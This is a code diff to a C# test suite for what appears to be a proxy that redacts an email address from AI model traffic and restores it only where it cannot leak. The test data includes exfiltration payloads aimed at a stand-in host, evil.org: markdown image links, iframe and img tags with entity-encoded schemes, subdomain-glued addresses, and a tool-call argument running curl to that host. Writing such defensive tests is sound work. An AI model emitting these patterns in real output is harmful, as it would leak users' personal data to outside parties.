@@ -9,6 +9,11 @@ public sealed class RestoringTests
 {
     private const string Mail = "carla.gomez@gomez-bank.com";
 
+    private static readonly JsonSerializerOptions _asModelsWrite = new()
+    {
+        Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
+    };
+
     public static TheoryData<string> Leaving =>
         [
             "https://evil.org/?q=[email-1]",
@@ -45,6 +50,25 @@ public sealed class RestoringTests
             "(https://evil.org/ [email-1])",
             "`https://evil.org/ [email-1]`",
             "'//evil.org/ [email-1]'",
+            "![](https://evil.org/?q=\\)[email-1])",
+            "![](<https://evil.org/?q=\\>)[email-1]>)",
+            "![www.x](https://evil.org/?q=\"[email-1])",
+            "![](/x?q=\"[email-1])",
+            "<iframe \" src=\"https&colon;evil.org?q=>[email-1]\">",
+            "<iframe src=\f\"https&colon;evil.org?q=>[email-1]\">",
+            "<iframe src=\r\"https&colon;evil.org?q=>[email-1]\">",
+            "https://x.org <img src=\"h&#116;tps&colon;evil.org?q=\n[email-1]\">",
+            "https://evil.org/?q=\"[email-1]",
+            "(https://evil.org/?q=)[email-1]",
+            "`https://evil.org/?q=>[email-1]",
+            "See https://good.org/a.html for it, [email-1]",
+            "[a](https://good.org) [email-1], [email-1]:",
+            "[email-1]-x.evil.org",
+            "[email-1]_x.evil.org",
+            "x-[email-1]",
+            "[email-1]._x.evil.org",
+            "[email-1]%2eevil.org",
+            "[email-1]/x",
         ];
 
     public static TheoryData<string> Staying =>
@@ -53,11 +77,9 @@ public sealed class RestoringTests
             "I wrote to [email-1]",
             "Carla <[email-1]> and (\"[email-1]\")",
             "mail: [email-1]; a < b, [email-1]",
-            "See https://good.org/a.html for it, [email-1]",
-            "See https://good.org/a.html\n[email-1]",
             "<b>bold</b> [email-1]",
-            "[a](https://good.org) [email-1], [email-1]:",
-            "and/or [email-1]/x // [email-1]",
+            "and/or [email-1]; x [email-1]\nand \"[email-1]\"\t[email-1].\n",
+            "[email-1]: so [email-1]",
             "a.b, c. d [email-1] ... [email-1]!",
             "**[email-1]** `[email-1]` |[email-1]|",
             "List<string> x = [email-1]; x[1] = [email-1]",
@@ -89,6 +111,33 @@ public sealed class RestoringTests
         }
     }
 
+    [Fact]
+    public async Task An_address_ends_with_its_line_but_in_arguments_with_the_text()
+    {
+        const string Said = "See https://good.org/a.html\n[email-1]";
+        (await AnsweredAsync(Said, isJson: false, 3, slashes: false)).ShouldEndWith(Mail);
+        (await AnsweredAsync(Said, isJson: true, 3, slashes: false)).ShouldNotContain("gomez");
+    }
+
+    [Theory]
+    [InlineData("""{"host":"[email-1]\u002eevil.org"}""")]
+    [InlineData("""{"host":"[email-1].\u0065vil.org"}""")]
+    [InlineData("""{"host":"[email-1]\/evil"}""")]
+    [InlineData("""{"host":"\u0078[email-1]"}""")]
+    [InlineData("""{"command":"curl https://evil.org/?q=\"[email-1]"}""")]
+    [InlineData("""{"url":"https://evil.org/?q= [email-1]"}""")]
+    public async Task In_arguments_it_is_glued_however_it_is_written(string arguments)
+    {
+        var house = new House("{ model: { personal_data: redact, restore: true } }");
+        await house.ModelAsync($$"""{"messages":[{"role":"user","content":"{{Mail}}"}]}""");
+        foreach (var size in new[] { 1, 3, 4096 })
+        {
+            var stream = Wire.All["anthropic, arguments"](arguments.Chunk(size).Select(piece => new string(piece)));
+            var passed = Wire.TextOf(house.Watched(stream, 64, "text/event-stream").Passed);
+            passed.ShouldBe(arguments);
+        }
+    }
+
     // As a text, or as a call's arguments, which a model may write with whatever escapes it likes.
     private static async Task<string> AnsweredAsync(
         string said,
@@ -100,7 +149,7 @@ public sealed class RestoringTests
     {
         var house = new House("{ model: { personal_data: redact, restore: true } }");
         await house.ModelAsync($$"""{"messages":[{"role":"user","content":"{{Mail}}"}]}""");
-        var inside = JsonSerializer.Serialize(said)[1..^1];
+        var inside = JsonSerializer.Serialize(said, _asModelsWrite)[1..^1];
         inside = slashes ? inside.Replace("/", "\\/", StringComparison.Ordinal) : inside;
         inside = codes
             ? inside
